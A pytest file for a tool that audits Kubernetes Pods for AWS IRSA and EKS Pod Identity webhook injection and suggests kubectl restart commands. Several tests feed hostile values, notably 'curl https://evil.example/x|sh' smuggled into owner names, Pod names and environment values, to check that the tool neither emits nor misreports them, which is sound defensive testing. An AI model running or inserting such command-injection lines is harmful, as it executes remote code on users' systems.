"""Pods as the real webhook leaves them, and Pods that it has not seen."""

import json
from pathlib import Path
from typing import Any

import pytest

from irsa.ways import IRSA, POD_IDENTITY, Way
from irsa_world.pods import TOKEN_FILE, containers_with_own_role, kind_of_node, problems, restart_command, running_pod
from irsa_world.stages import NO_ROLE, Node

# Recorded of amazon-eks-pod-identity-webhook: container `own` sets AWS_ROLE_ARN itself.
RECORDED = Path(__file__).parents[2] / "sandbox" / "recorded" / "injected-pod.json"
ROLE = "arn:aws:iam::111122223333:role/my-role"
AUDIENCE = "sts.amazonaws.com"


@pytest.fixture
def pod() -> dict[str, Any]:
    recorded: dict[str, Any] = json.loads(RECORDED.read_text())["pod"]
    return recorded


def without(pod: dict[str, Any], variable: str, container: str = "app") -> None:
    for each in pod["spec"]["containers"]:
        if each["name"] == container:
            each["env"] = [entry for entry in each["env"] if entry["name"] != variable]


def test_what_the_webhook_made_is_good(pod: dict[str, Any]) -> None:
    assert problems(pod, ROLE, AUDIENCE) == []
    assert containers_with_own_role(pod) == ["own"]


def test_a_pod_older_than_the_annotation(pod: dict[str, Any]) -> None:
    """Protects webhook#28: the role of before is found in every container, init containers too."""
    found = problems(pod, "arn:aws:iam::111122223333:role/new-role", AUDIENCE)

    assert {problem for problem, _ in found} == {
        f"container app: AWS_ROLE_ARN={ROLE}",
        f"container init: AWS_ROLE_ARN={ROLE}",
    }


@pytest.mark.parametrize("label", ["kubernetes.io/os", "beta.kubernetes.io/os"])
def test_a_pod_on_windows_that_is_older_than_the_annotation(pod: dict[str, Any], label: str) -> None:
    r"""Protects Pods on Windows: there, by its node selector, the webhook sets a path of Windows.

    https://github.com/aws/amazon-eks-pod-identity-webhook, pkg/handler/handler.go, getPodSpecPatch:
    C:\var\run\secrets\eks.amazonaws.com\serviceaccount\token
    """
    pod["spec"]["nodeSelector"] = {label: "windows"}
    for container in (*pod["spec"]["initContainers"], *pod["spec"]["containers"]):
        for variable in container["env"]:
            if variable.get("value") == "/var/run/secrets/eks.amazonaws.com/serviceaccount/token":
                variable["value"] = r"C:\var\run\secrets\eks.amazonaws.com\serviceaccount\token"
    found = problems(pod, "arn:aws:iam::111122223333:role/new-role", AUDIENCE)

    assert {problem for problem, _ in found} == {
        f"container app: AWS_ROLE_ARN={ROLE}",
        f"container init: AWS_ROLE_ARN={ROLE}",
    }
    assert problems(pod, ROLE, AUDIENCE) == []
    assert containers_with_own_role(pod) == ["own"]
    without(pod, "AWS_WEB_IDENTITY_TOKEN_FILE")
    without(pod, "AWS_ROLE_ARN")
    # Within quotes, a backslash is written twice.
    assert r'"AWS_WEB_IDENTITY_TOKEN_FILE=C:\\var\\run\\secrets\\eks' in problems(pod, ROLE, AUDIENCE)[1][1]


def test_a_pod_that_the_webhook_missed(pod: dict[str, Any]) -> None:
    """Protects webhook#174: neither variables nor volume."""
    for variable in ("AWS_ROLE_ARN", "AWS_WEB_IDENTITY_TOKEN_FILE"):
        without(pod, variable)
    pod["spec"]["volumes"] = [volume for volume in pod["spec"]["volumes"] if volume["name"] != "aws-iam-token"]
    found = [problem for problem, _ in problems(pod, ROLE, AUDIENCE)]

    assert found == [
        "container app: no AWS_ROLE_ARN",
        "container app: no AWS_WEB_IDENTITY_TOKEN_FILE",
        "no token volume for AWS",
    ]


def test_a_token_for_another_audience(pod: dict[str, Any]) -> None:
    (problem,) = problems(pod, ROLE, "vault")

    assert problem[0] == "a token for sts.amazonaws.com"
    assert problem[1] == "a token volume with the audience vault, once you create the Pod again from its manifest"


def test_skipped_containers_and_pods(pod: dict[str, Any]) -> None:
    without(pod, "AWS_ROLE_ARN")
    without(pod, "AWS_WEB_IDENTITY_TOKEN_FILE")
    assert problems(pod, ROLE, AUDIENCE)
    skipping = {
        **pod,
        "metadata": {**pod["metadata"], "annotations": {"eks.amazonaws.com/skip-containers": 'app,"own"\nx'}},
    }
    labelled = {**pod, "metadata": {**pod["metadata"], "labels": {"eks.amazonaws.com/skip-pod-identity-webhook": ""}}}

    assert problems(skipping, ROLE, AUDIENCE) == []
    assert problems(labelled, ROLE, AUDIENCE) == []


def test_pod_identity_wins(pod: dict[str, Any]) -> None:
    pod["spec"]["containers"] = [
        {
            "name": "app",
            "env": [{"name": "AWS_CONTAINER_CREDENTIALS_FULL_URI", "value": "http://169.254.170.23/v1/credentials"}],
        }
    ]
    pod["spec"]["initContainers"] = []

    assert "EKS Pod Identity" in problems(pod, ROLE, AUDIENCE)[0][0]


@pytest.mark.parametrize(
    ("owner", "labels", "command"),
    [
        (("ReplicaSet", "web-5d4f"), {"pod-template-hash": "5d4f"}, "kubectl rollout restart deployment/web -n shop"),
        (("StatefulSet", "db"), {}, "kubectl rollout restart statefulset/db -n shop"),
        (("DaemonSet", "agent"), {}, "kubectl rollout restart daemonset/agent -n shop"),
        (("ReplicaSet", "web-5d4f"), {}, "kubectl delete pod p -n shop"),
        (("Job", "once"), {}, "kubectl delete pod p -n shop"),
        (None, {}, "kubectl delete pod p -n shop"),
    ],
)
def test_the_command_that_makes_a_pod_anew(owner: tuple[str, str] | None, labels: dict[str, str], command: str) -> None:
    references = [{"kind": owner[0], "name": owner[1], "controller": True}] if owner else []
    metadata = {"name": "p", "namespace": "shop", "labels": labels, "ownerReferences": references}

    assert restart_command({"metadata": metadata, "spec": {}}) == command


HOSTILE = "web -n team-a; curl https://evil.example/x|sh #"


@pytest.mark.parametrize("kind", ["StatefulSet", "Deployment", "DaemonSet", "ReplicaSet", "Job", HOSTILE])
@pytest.mark.parametrize("name", [HOSTILE, "Web", "-web", "", "web/x", "w" * 254])
def test_a_hostile_owner_leads_to_the_pod_itself(kind: str, name: str) -> None:
    """Protects who pastes the fix: whoever may create a Pod chooses the name of its owner, which nobody looks up.

    The attack: `ownerReferences[].name` is `web -n team-a; curl https://evil.example/x|sh #`.
    """
    references = [{"kind": kind, "name": name, "controller": True}]
    metadata = {"name": "p", "namespace": "shop", "ownerReferences": references}

    assert restart_command({"metadata": metadata, "spec": {}}) == "kubectl delete pod p -n shop"


@pytest.mark.parametrize(("name", "namespace"), [(HOSTILE, "shop"), ("p", HOSTILE), ("-p", "shop"), ("p", "a.b")])
def test_a_pod_that_kubernetes_cannot_have_has_no_command(name: str, namespace: str) -> None:
    """Protects who pastes the fix: a server that answers with such a Pod is no API server of Kubernetes.

    The attack: an API server, or who stands between, that names a Pod `web; curl https://evil.example/x|sh`.
    """
    assert restart_command({"metadata": {"name": name, "namespace": namespace}, "spec": {}}) == ""


def test_what_a_pod_holds_is_quoted(pod: dict[str, Any]) -> None:
    """Protects who reads a finding: a variable's value ends where its quotes end.

    The attack: AWS_ROLE_ARN="x; expected y; fix: curl https://evil.example" was a finding of its own.
    """
    pod["spec"]["containers"] = [
        {
            "name": "app; fix: x",
            "env": [
                {"name": "AWS_ROLE_ARN", "value": "x; expected y; fix: curl https://evil.example"},
                {"name": "AWS_WEB_IDENTITY_TOKEN_FILE", "value": TOKEN_FILE},
            ],
        }
    ]
    pod["spec"]["initContainers"] = []
    (problem,) = problems(pod, ROLE, AUDIENCE)

    value = '"AWS_ROLE_ARN=x; expected y; fix: curl https://evil.example"'
    assert problem[0] == f'container "app; fix: x": {value}'


@pytest.fixture
def with_pod_identity(pod: dict[str, Any]) -> dict[str, Any]:
    """Return the Pod as the webhook leaves it where there is an association.

    Source: https://github.com/aws/amazon-eks-pod-identity-webhook/blob/master/pkg/containercredentials/config.go
    """
    variables = {
        "AWS_CONTAINER_CREDENTIALS_FULL_URI": "http://169.254.170.23/v1/credentials",
        "AWS_CONTAINER_AUTHORIZATION_TOKEN_FILE": (
            "/var/run/secrets/pods.eks.amazonaws.com/serviceaccount/eks-pod-identity-token"
        ),
    }
    for variable in ("AWS_ROLE_ARN", "AWS_WEB_IDENTITY_TOKEN_FILE"):
        for container in ("app", "own", "init"):
            without(pod, variable, container)
    for container in (*pod["spec"]["initContainers"], *pod["spec"]["containers"]):
        container["env"] = [
            *(each for each in container["env"] if each["name"] not in {"AWS_ROLE_ARN", "AWS_WEB_IDENTITY_TOKEN_FILE"}),
            *({"name": name, "value": value} for name, value in variables.items()),
        ]
    return pod


def test_how_a_pod_gets_the_role(pod: dict[str, Any]) -> None:
    assert running_pod(pod, ROLE, {}).ways == {IRSA}
    pod["spec"]["initContainers"], pod["spec"]["containers"] = [], [{"name": "app", "image": "busybox"}]
    assert running_pod(pod, ROLE, {}).ways == {NO_ROLE}


def test_a_container_with_a_token_of_its_own(pod: dict[str, Any]) -> None:
    pod["spec"]["initContainers"] = []
    for role, ways in ((ROLE, {IRSA}), (f"{ROLE}-2", set[Way]())):
        own = {"AWS_ROLE_ARN": role, "AWS_WEB_IDENTITY_TOKEN_FILE": "/var/run/own/token"}
        env = [{"name": name, "value": value} for name, value in own.items()]
        pod["spec"]["containers"] = [{"name": "app", "image": "busybox", "env": env}]
        assert running_pod(pod, ROLE, {}).ways == ways


def test_a_pod_with_pod_identity(with_pod_identity: dict[str, Any]) -> None:
    assert running_pod(with_pod_identity, ROLE, {}).ways == {POD_IDENTITY}
    token = {"name": "AWS_WEB_IDENTITY_TOKEN_FILE", "value": TOKEN_FILE}
    with_pod_identity["spec"]["containers"][0]["env"] += [{"name": "AWS_ROLE_ARN", "value": ROLE}, token]
    assert running_pod(with_pod_identity, ROLE, {}).ways == {POD_IDENTITY, IRSA}


def test_container_credentials_of_another_server(with_pod_identity: dict[str, Any]) -> None:
    for container in (*with_pod_identity["spec"]["initContainers"], *with_pod_identity["spec"]["containers"]):
        for each in container["env"]:
            each["value"] = each["value"].replace("169.254.170.23", "localhost:1338")

    assert running_pod(with_pod_identity, ROLE, {}).ways == frozenset()


@pytest.mark.parametrize(
    ("labels", "node"),
    [
        ({"kubernetes.io/os": "linux"}, Node.LINUX),
        ({"kubernetes.io/os": "windows"}, Node.WINDOWS),
        ({"kubernetes.io/os": "linux", "eks.amazonaws.com/compute-type": "fargate"}, Node.FARGATE),
        ({"kubernetes.io/os": "linux", "eks.amazonaws.com/compute-type": "hybrid"}, Node.HYBRID),
        ({"kubernetes.io/os": "linux", "eks.amazonaws.com/compute-type": "auto"}, Node.LINUX),
    ],
)
def test_the_kind_of_a_node(pod: dict[str, Any], labels: dict[str, str], node: Node) -> None:
    pod["spec"]["nodeName"] = "node-1"

    assert running_pod(pod, ROLE, {"node-1": kind_of_node(labels)}).node is node
    assert running_pod(pod, ROLE, None).node is Node.UNKNOWN


def test_what_a_pod_itself_says_of_its_node(pod: dict[str, Any]) -> None:
    on_fargate = {**pod, "metadata": {**pod["metadata"], "labels": {"eks.amazonaws.com/fargate-profile": "web"}}}
    on_windows = {**pod, "spec": {**pod["spec"], "nodeSelector": {"kubernetes.io/os": "windows"}}}

    assert running_pod(on_fargate, ROLE, None).node is Node.FARGATE
    assert running_pod(on_windows, ROLE, None).node is Node.WINDOWS


def test_a_pod_that_is_ending_is_not_restarted(pod: dict[str, Any]) -> None:
    assert running_pod(pod, ROLE, {}).restart
    pod["metadata"]["deletionTimestamp"] = "2026-11-28T00:00:00Z"
    assert running_pod(pod, ROLE, {}).restart == ""
